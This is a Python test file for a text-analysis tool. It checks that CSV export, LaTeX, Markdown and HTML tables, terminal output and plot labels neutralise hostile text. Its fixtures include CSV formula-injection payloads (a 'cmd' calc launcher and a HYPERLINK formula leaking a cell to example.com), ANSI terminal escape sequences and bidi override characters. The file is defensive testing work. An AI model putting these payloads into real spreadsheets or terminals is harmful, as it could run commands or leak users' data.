"""Output that other programs would misread: spreadsheet formulas in CSV, control characters in
LaTeX, Markdown and HTML cells, escapes in the terminal, mathtext in figure labels.

Every text reaches the output as data: a CSV cell a spreadsheet would run gets a leading
apostrophe, control characters are dropped from typeset cells and shown escaped by ``inspect``,
and ``$`` in ids and terms is drawn as written.
"""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest

from analysis.cli import main
from analysis.corpus.describe import describe_corpus, terminal_text
from analysis.corpus.loader import load_corpus
from analysis.report.plots import (
    plot_distinguishing_terms,
    plot_frames,
    plot_outlet_measure,
    plot_tone_arc,
    plot_tone_shifts,
)
from analysis.report.tables import (
    csv_cell,
    format_number,
    latex_escape,
    to_csv,
    to_latex,
    to_markdown,
)
from tests.report.plots import plot_data

# Every control character a pdfLaTeX, Markdown or HTML cell must not carry.
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
# Cells a spreadsheet evaluates (OWASP, "CSV Injection"), and text that only looks like one.
FORMULAS = [
    "=1+1",
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "-",
    "+44 20 7946 0958",
]
PLAIN = ["-0.5", "+3%", "-1e-05", "12", "plain text", "a=b", "e-mail", " =1", "'=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_formula_cells_get_an_apostrophe(text: str) -> None:
    assert csv_cell(text) == "'" + text.replace("\r", "\n")


def test_csv_carriage_returns_cannot_start_a_row() -> None:
    table = pd.DataFrame({"text": ["one\r=cmd()", "two\r\nlines", "ok"], "n": [1, 2, 3]})
    read = pd.read_csv(io.StringIO(to_csv(table)), dtype=str, keep_default_na=False)
    assert read["text"].tolist() == ["one\n=cmd()", "two\nlines", "ok"]
    assert read["n"].tolist() == ["1", "2", "3"]


@pytest.mark.parametrize("value", [*PLAIN, -1.5, 3, None, True])
def test_csv_plain_cells_are_untouched(value: object) -> None:
    assert csv_cell(value) == value


def test_csv_table_sanitises_text_and_header_but_not_numbers() -> None:
    table = pd.DataFrame({"text": FORMULAS + PLAIN, "n": range(-9, len(PLAIN))})
    table["=cmd"] = -0.25
    before = table.copy()
    read = pd.read_csv(io.StringIO(to_csv(table)), dtype=str, keep_default_na=False)
    pd.testing.assert_frame_equal(table, before)  # the input is not changed
    assert read.columns.tolist() == ["text", "n", "'=cmd"]
    assert read["text"].tolist() == ["'" + f.replace("\r", "\n") for f in FORMULAS] + PLAIN
    assert read["n"].tolist() == [str(n) for n in table["n"]]
    assert set(read["'=cmd"]) == {"-0.25"}


def test_csv_without_formulas_is_the_same_text_as_before() -> None:
    table = pd.DataFrame({"text": PLAIN, "x": [-0.5] * len(PLAIN)})
    expected = table.to_csv(index=False, float_format="%.6g", lineterminator="\n")
    assert to_csv(table) == expected


HOSTILE = "a\x00b\x07c\x08d\x0be\x0cf\x1bg[31mh\x1fi\x7fj\x85k\x9bl\x9fm"


@pytest.mark.parametrize(
    "render",
    [to_latex, to_markdown, lambda t: "".join(format_number(v) for v in t["text"])],
    ids=["latex", "markdown", "html cells"],
)
def test_typeset_cells_carry_no_control_characters(render) -> None:  # type: ignore[no-untyped-def]
    table = pd.DataFrame({"text": [HOSTILE, "\x00", "form\x0cfeed"], "n": [1, 2, 3]})
    out = render(table)
    assert not CONTROLS.search(out)
    assert "abcd" in out  # NUL, BEL and backspace dropped between letters
    assert "form feed" in out  # form feed becomes a space


def test_latex_escape_drops_controls_from_captions() -> None:
    assert latex_escape("Tone\x00 of\x7f A\x0cand B\x9b_x") == "Tone of A and B\\_x"


def test_terminal_text_escapes_every_control() -> None:
    shown = terminal_text("red\x1b[31m\u202eevil\x07\nnext\x00\x9b")
    assert shown == "red\\x1b[31m\\u202eevil\\x07\\nnext\\x00\\x9b"
    assert not CONTROLS.search(shown)


def _hostile_event(tmp: Path) -> Path:
    folder = tmp / "event"
    folder.mkdir()
    record = {
        "title": "Breaking\x1b]0;pwned\x07 news\x1b[2J",
        "outlet": "Daily \u202eswen\u202c",
        "author": "line one\nline two",
        "text": "The council met\x1b[31m on Tuesday.\x08 Engineers warned\x00 it may fail.\n",
    }
    (folder / "a.json").write_text(json.dumps(record), encoding="utf-8")
    (folder / "b.txt").write_text(
        "Ministers met in Brussels on Monday. They agreed on a plan.\n", encoding="utf-8"
    )
    return folder


def test_describe_corpus_escapes_ansi_and_bidi(tmp_path: Path) -> None:
    text = describe_corpus(load_corpus(_hostile_event(tmp_path)))
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text)
    assert "Breaking ]0;pwned  news [2J" in text  # the loader blanks control characters
    assert "Daily \\u202eswen\\u202c" in text
    assert "line one\\nline two" in text


def test_inspect_command_prints_escapes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["inspect", str(_hostile_event(tmp_path))]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert "met [31m on Tuesday" in out


DOLLAR_IDS = ["$x^$", "$\\frac{$", "US$ 5 $ 6", "$$"]


@pytest.mark.parametrize("article", DOLLAR_IDS)
def test_dollar_ids_are_drawn_as_written(article: str) -> None:
    arc = plot_data.arc_table().replace({plot_data.A: article})
    ax = plot_tone_arc(arc, ax=plot_data.new_ax())
    plot_data.draw(ax)  # a mathtext parse error would raise here
    labels = [t.get_text() for t in ax.get_legend().get_texts()]
    assert any(article in label.replace("\\$", "$") for label in labels)


def test_dollar_terms_frames_sentences_and_outlets_draw() -> None:
    terms = plot_data.terms_table().assign(a="$a$", b="b$$")
    terms["term"] = [f"${t}^" for t in terms["term"]]
    frames = plot_data.two_sided("share", ["$cost$", "$_{x}$"]).assign(a="$a^$")
    shifts = plot_data.shifts_table().assign(a_text="Costs rose to $5 and $^6.")
    outlets = plot_data.outlet_table().replace({"Daily": "$Daily$", "Post": "$^"})
    for ax in (
        plot_distinguishing_terms(terms, ax=plot_data.new_ax()),
        plot_frames(frames, ax=plot_data.new_ax()),
        plot_tone_shifts(shifts, ax=plot_data.new_ax()),
        plot_outlet_measure(outlets, measure="tone", title="Tone", ax=plot_data.new_ax()),
    ):
        plot_data.draw(ax)
